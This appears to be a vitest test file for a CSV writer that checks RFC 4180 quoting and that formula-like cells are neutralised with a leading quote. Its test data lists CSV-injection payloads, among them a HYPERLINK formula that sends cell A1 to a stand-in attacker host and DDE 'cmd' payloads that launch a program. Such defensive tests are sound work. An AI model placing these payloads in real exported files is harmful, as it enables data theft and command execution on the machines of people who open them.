import { describe, expect, it } from 'vitest';
import { readCsv } from './read-csv.js';
import { readWrittenCell, writeCsv } from './write-csv.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+91 98765 43210',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  "'=already quoted",
];

describe('writeCsv', () => {
  it('writes a byte-order mark, a header and CRLF lines, quoting what RFC 4180 needs', () => {
    const csv = writeCsv(['name', 'note'], [['Asha', 'a, "b"\nc']]);
    expect(csv).toBe('\uFEFFname,note\r\nAsha,"a, ""b""\nc"\r\n');
  });

  it('puts a quote before every cell a spreadsheet would run as a formula (OWASP), however it continues', () => {
    const csv = writeCsv(
      ['cell'],
      HOSTILE.map((cell) => [cell]),
    );
    const cells = readCsv(csv)
      .slice(1)
      .map(([cell]) => cell);
    // readCsv trims spaces and tabs at the ends of a cell; what matters is the first character.
    expect(cells.map((cell) => cell!.charAt(0))).toEqual(HOSTILE.map(() => "'"));
    expect(cells[0]).toBe(`'${HOSTILE[0]}`);
    expect(cells[6]).toBe(`'${HOSTILE[6]}`);
    expect(cells[7]).toBe(`'${HOSTILE[7]}`);
  });

  it('leaves ordinary text, numbers and a formula character inside a cell as they are', () => {
    const csv = writeCsv(['a', 'b', 'c', 'd'], [['Asha = teacher', 'ആശ', 3, null]]);
    expect(csv).toBe('\uFEFFa,b,c,d\r\nAsha = teacher,ആശ,3,\r\n');
  });

  it('gives back every cell as it was before writing', () => {
    const cells = [...HOSTILE, "''-x", "'plain", 'plain', "it's"];
    const written = readCsv(
      writeCsv(
        ['cell'],
        cells.map((cell) => [cell]),
      ),
    )
      .slice(1)
      .map(([cell]) => readWrittenCell(cell!));
    // readCsv trims a cell's ends; the quote in front keeps a leading tab or carriage return.
    expect(written).toEqual(cells.map((cell) => cell.trimEnd()));
  });
});
